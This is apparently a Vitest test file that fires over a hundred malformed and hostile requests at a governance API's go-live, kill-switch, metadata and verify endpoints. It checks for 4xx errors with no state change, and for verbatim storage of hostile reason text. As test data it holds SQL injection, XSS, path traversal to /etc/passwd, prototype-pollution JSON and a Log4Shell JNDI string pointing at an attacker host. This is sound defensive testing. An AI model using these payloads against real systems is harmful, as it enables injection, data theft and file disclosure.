import { gzipSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { ERROR_CODES } from '../../packages/contract/src/index.js';
import { ALICE, bearer, jobData, useApi } from './support.js';

const api = useApi();

type Case = {
  label: string;
  method?: 'GET' | 'POST' | 'PUT' | 'PATCH' | 'DELETE';
  url: string;
  body?: string | Buffer;
  contentType?: string | null;
  headers?: Record<string, string>;
};

const json = (value: unknown) => JSON.stringify(value);
const GO_LIVE = '/api/governance/go-live';
const KILL = '/api/governance/kill-switch';
const META = '/api/governance/system-metadata';
const VERIFY = '/api/governance/verify';
const ok = { enabled: true, reason: 'launch' };

const bodyCases = (url: string, label: string, bodies: Record<string, unknown>): Case[] =>
  Object.entries(bodies).map(([name, body]) => ({ label: `${label}: ${name}`, url, body: json(body) }));

const CASES: Case[] = [
  // Wrong types and missing fields.
  ...bodyCases(GO_LIVE, 'go-live', {
    'enabled as string': { enabled: 'true', reason: 'x' },
    'enabled as 1': { enabled: 1, reason: 'x' },
    'enabled as 0': { enabled: 0, reason: 'x' },
    'enabled null': { enabled: null, reason: 'x' },
    'enabled array': { enabled: [true], reason: 'x' },
    'enabled object': { enabled: {}, reason: 'x' },
    'enabled missing': { reason: 'x' },
    'reason missing': { enabled: true },
    'reason empty': { enabled: true, reason: '' },
    'reason blank': { enabled: true, reason: '   \n\t' },
    'reason 501 chars': { enabled: true, reason: 'r'.repeat(501) },
    'reason 100k chars': { enabled: true, reason: 'r'.repeat(15_000) },
    'reason number': { enabled: true, reason: 42 },
    'reason null': { enabled: true, reason: null },
    'reason array': { enabled: true, reason: ['a'] },
    'reason object': { enabled: true, reason: { toString: 'x' } },
    'reason boolean': { enabled: true, reason: true },
    'reason with NUL': { enabled: true, reason: 'a\u0000b' },
    'reason with lone surrogate': { enabled: true, reason: 'a\ud800b' },
    'actor in body': { ...ok, actor: 'mallory' },
    'changed_by in body': { ...ok, changed_by: 'mallory' },
    'action in body': { ...ok, action: 'go_live.enable' },
    'requestId in body': { ...ok, requestId: 'x' },
    'jobId in body': { ...ok, jobId: 'x' },
    'constructor key': { ...ok, constructor: 'x' },
    'toString key': { ...ok, toString: 'x' },
    'empty object': {},
    'array body': [ok],
    'empty array': [],
    'string body': 'enabled',
    'number body': 1,
    'boolean body': true,
    'huge number': { enabled: 1e308, reason: 'x' },
    'nested payload': { enabled: { $gt: '' }, reason: 'x' },
    'unicode key': { ...ok, 'ënabled': true },
  }),
  ...bodyCases(KILL, 'kill-switch', {
    'engaged missing': { reason: 'x' },
    'engaged string': { engaged: 'false', reason: 'x' },
    'enabled instead of engaged': { enabled: false, reason: 'x' },
    'reason too long': { engaged: true, reason: 'é'.repeat(501) },
    'reason SQL but engaged wrong': { engaged: "true' OR '1'='1", reason: "'; DROP TABLE go_live_state; --" },
    'script in key': { engaged: true, reason: 'x', '<script>': 1 },
  }),
  ...bodyCases(META, 'system-metadata', {
    'no field set': { reason: 'x' },
    'version empty': { version: '', reason: 'x' },
    'version blank': { version: '   ', reason: 'x' },
    'version 101 chars': { version: 'v'.repeat(101), reason: 'x' },
    'version number': { version: 2, reason: 'x' },
    'version null': { version: null, reason: 'x' },
    'backend_complete string': { backend_complete: 'true', reason: 'x' },
    'backend_complete null': { backend_complete: null, reason: 'x' },
    'notes 2001 chars': { notes: 'n'.repeat(2001), reason: 'x' },
    'notes object': { notes: { a: 1 }, reason: 'x' },
    'notes with NUL': { notes: '\u0000', reason: 'x' },
    'metadata wrapper': { metadata: { version: '2' }, reason: 'x' },
    'completed_at': { completed_at: '2020-01-01', backend_complete: true, reason: 'x' },
    'missing reason': { backend_complete: true },
  }),
  ...bodyCases(VERIFY, 'verify', {
    'release empty': { release: '' },
    'release blank': { release: '  ' },
    'release 201 chars': { release: 'r'.repeat(201) },
    'release number': { release: 5 },
    'release null': { release: null },
    'release array': { release: ['a'] },
    'actor': { actor: 'mallory' },
    'array body': [],
    'string body': 'verify',
  }),
  // Bodies that are not JSON, or JSON we refuse before validation.
  ...([
    ['truncated', '{"enabled": true,'],
    ['trailing comma', '{"enabled":true,"reason":"x",}'],
    ['single quotes', "{'enabled':true,'reason':'x'}"],
    ['bare word', 'undefined'],
    ['NaN', '{"enabled":NaN,"reason":"x"}'],
    ['comment', '{"enabled":true /* */,"reason":"x"}'],
    ['empty', ''],
    ['whitespace only', '   '],
    ['literal null', 'null'],
    ['__proto__ key', '{"enabled":true,"reason":"x","__proto__":{"isAdmin":true}}'],
    ['nested __proto__', '{"enabled":true,"reason":"x","a":{"__proto__":{"polluted":1}}}'],
    ['constructor.prototype', '{"enabled":true,"reason":"x","constructor":{"prototype":{"polluted":1}}}'],
    ['huge integer', '{"enabled":123456789012345678901234567890123456789,"reason":"x"}'],
    ['1e400', '{"enabled":true,"reason":"x","n":1e400}'],
    ['deep nesting', `{"enabled":${'['.repeat(5000)}${']'.repeat(5000)},"reason":"x"}`],
    ['two documents', '{"enabled":true,"reason":"x"}{"enabled":false,"reason":"y"}'],
    ['over the size limit', json({ enabled: true, reason: 'x'.repeat(17_000) })],
  ] satisfies [string, string][]).map(([name, body]): Case => ({ label: `json: ${name}`, url: GO_LIVE, body })),
  { label: 'json: invalid UTF-8', url: GO_LIVE, body: Buffer.concat([Buffer.from('{"enabled":true,"reason":"'), Buffer.from([0xff, 0xfe, 0xc3]), Buffer.from('"}')]) },
  { label: 'json: overlong UTF-8 slash', url: GO_LIVE, body: Buffer.concat([Buffer.from('{"enabled":true,"reason":"'), Buffer.from([0xc0, 0xaf]), Buffer.from('"}')]) },
  // Content types.
  ...['text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data; boundary=x', 'application/xml', 'application/json-patch+json', 'text/json', 'application/javascript'].map(
    (contentType): Case => ({ label: `content-type ${contentType}`, url: GO_LIVE, body: json(ok), contentType }),
  ),
  { label: 'no content-type with a body', url: GO_LIVE, body: json(ok), contentType: null },
  { label: 'gzip content-encoding', url: KILL, body: gzipSync(json({ engaged: false, reason: 'x' })), headers: { 'content-encoding': 'gzip' } },
  // Bad tokens.
  ...([
    ['empty bearer', 'Bearer '],
    ['bearer only', 'Bearer'],
    ['basic scheme', `Basic ${Buffer.from(`alice:${ALICE.token}`).toString('base64')}`],
    ['token without scheme', ALICE.token],
    ['upper-cased token', `Bearer ${ALICE.token.toUpperCase()}`],
    ['token prefix', `Bearer ${ALICE.token.slice(0, -1)}`],
    ['token twice', `Bearer ${ALICE.token} ${ALICE.token}`],
    ['SQL token', "Bearer ' OR '1'='1"],
    ['script token', 'Bearer <script>alert(1)</script>'],
    ['8 KB token', `Bearer ${'t'.repeat(8_000)}`],
    ['actor name as token', 'Bearer alice'],
    ['actor:token pair as token', `Bearer alice:${ALICE.token}`],
  ] satisfies [string, string][]).map(([name, authorization]): Case => ({ label: `token: ${name}`, url: GO_LIVE, body: json(ok), headers: { authorization } })),
  // Bad Idempotency-Key headers (the body is valid; the key is not).
  ...([
    ['201 chars', 'k'.repeat(201)],
    ['empty', ''],
    ['spaces only', '   '],
    ['leading space', ' key'],
    ['latin-1 characters', 'cl\u00e9'],
    ['tab', 'a\tb'],
  ] satisfies [string, string][]).map(([name, key]): Case => ({ label: `idempotency key: ${name}`, url: KILL, body: json({ engaged: true, reason: 'x' }), headers: { 'idempotency-key': key } })),
  // Bad job ids and query strings.
  ...[
    '/api/jobs/..%2F..%2Fetc%2Fpasswd',
    '/api/jobs/%00',
    "/api/jobs/'%20OR%20'1'%3D'1",
    '/api/jobs/%3Cscript%3E',
    `/api/jobs/${'a'.repeat(600)}`,
    '/api/jobs/%E0%A4%A',
    '/api/jobs/a:b',
    '/api/jobs/',
    '/api/governance/audit?limit=1e3',
    '/api/governance/audit?limit=1.5',
    '/api/governance/audit?limit=%00',
    '/api/governance/audit?limit=',
    '/api/governance/audit?before=-5',
    '/api/governance/audit?before=1;DROP%20TABLE%20governance_audit_log',
    '/api/governance/audit?before=99999999999999999999',
    '/api/governance/audit?limit[]=1',
    '/api/governance/audit?limit[a]=1',
    '/api/governance/audit?__proto__=1',
    '/api/governance/verifications?limit=-1',
    '/api/governance/verifications?limit=999',
    '/api/governance/verifications?release=x',
    '/api/governance/runbook/status/../../health',
  ].map((url): Case => ({ label: `GET ${url.slice(0, 80)}`, method: 'GET', url })),
  // Methods and paths that are not routes.
  { label: 'PUT go-live', method: 'PUT', url: GO_LIVE, body: json(ok) },
  { label: 'PATCH kill-switch', method: 'PATCH', url: KILL, body: json({ engaged: false, reason: 'x' }) },
  { label: 'DELETE system-metadata', method: 'DELETE', url: META },
  { label: 'trailing slash', url: `${GO_LIVE}/`, body: json(ok) },
  { label: 'upper-case path', url: '/API/governance/go-live', body: json(ok) },
  { label: 'GET on a POST route', method: 'GET', url: VERIFY },
];

describe('hostile and malformed requests', () => {
  it('has at least 100 cases', () => {
    expect(CASES.length).toBeGreaterThanOrEqual(100);
  });

  it.each(CASES.map((c) => [c.label, c] as const))('%s: answers 4xx in the error shape and changes nothing', async (_label, c) => {
    const jobsBefore = await api.current.jobCount();
    const stateBefore = await api.current.stateFingerprint();
    const headers: Record<string, string> = { ...bearer(), ...c.headers };
    if (c.body !== undefined && c.contentType !== null) headers['content-type'] = c.contentType ?? 'application/json';
    const response = await api.current.app.inject({ method: c.method ?? 'POST', url: c.url, headers, ...(c.body === undefined ? {} : { payload: c.body }) });

    expect(response.statusCode, response.body).toBeGreaterThanOrEqual(400);
    expect(response.statusCode, response.body).toBeLessThan(500);
    expect(response.headers['content-type']).toMatch(/^application\/json/);
    const body = response.json<{ error: { code: keyof typeof ERROR_CODES; message: string } }>();
    expect(Object.keys(body)).toEqual(['error']);
    expect(ERROR_CODES[body.error.code]?.status).toBe(response.statusCode);
    expect(body.error.message.length).toBeGreaterThan(0);

    expect(await api.current.jobCount()).toBe(jobsBefore);
    expect(await api.current.stateFingerprint()).toBe(stateBefore);
    expect(({} as Record<string, unknown>).isAdmin).toBeUndefined();
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
  });
});

describe('compressed bodies', () => {
  it('answers 415 naming the Content-Encoding, not a misleading invalid JSON', async () => {
    const response = await api.current.app.inject({
      method: 'POST',
      url: KILL,
      headers: { ...bearer(), 'content-type': 'application/json', 'content-encoding': 'gzip' },
      payload: gzipSync(json({ engaged: false, reason: 'x' })),
    });
    expect(response.statusCode).toBe(415);
    expect(response.json().error).toMatchObject({ code: 'UNSUPPORTED_MEDIA_TYPE', message: expect.stringContaining('Content-Encoding gzip') });
  });
});

describe('hostile text that is valid input', () => {
  const REASONS = [
    "'; DROP TABLE go_live_state; --",
    "Robert'); DELETE FROM governance_audit_log;--",
    '<script>alert(document.cookie)</script>',
    '<img src=x onerror=alert(1)>',
    'Ünïcødé 🚀 中文 עברית العربية',
    '\u202eRTL override\u202c and zero\u200bwidth',
    '${jndi:ldap://attacker/x}',
    '{{7*7}} #{7*7} %s %n',
    'line one\nline two\ttabbed\r\n',
    'back\\slash "quoted"',
    'null',
    '__proto__',
    'r'.repeat(500),
    '😀'.repeat(250),
  ];

  it.each(REASONS.map((reason) => [reason.slice(0, 40), reason] as const))('accepts %j and queues it verbatim', async (_label, reason) => {
    const before = await api.current.jobCount();
    // A release: queued (an engage is applied in the request; its reason lands in the audit entry the same way).
    const response = await api.current.app.inject({ method: 'POST', url: KILL, payload: { engaged: false, reason }, headers: bearer() });
    expect(response.statusCode).toBe(202);
    expect((await jobData(api.current, response.json().jobId)).reason).toBe(reason);
    expect(await api.current.jobCount()).toBe(before + 1);
  });

  it('stores hostile metadata and release strings verbatim', async () => {
    const meta = await api.current.app.inject({
      method: 'POST',
      url: META,
      payload: { version: "1.0'; --", notes: '<b>bold</b> 🚀', reason: 'x' },
      headers: bearer(),
    });
    expect(meta.statusCode).toBe(202);
    expect((await jobData(api.current, meta.json().jobId)).metadata).toEqual({ version: "1.0'; --", notes: '<b>bold</b> 🚀' });
    const verify = await api.current.app.inject({ method: 'POST', url: VERIFY, payload: { release: 'r1<script>' }, headers: bearer() });
    expect(verify.statusCode).toBe(202);
    expect((await jobData(api.current, verify.json().jobId)).release).toBe('r1<script>');
  });
});
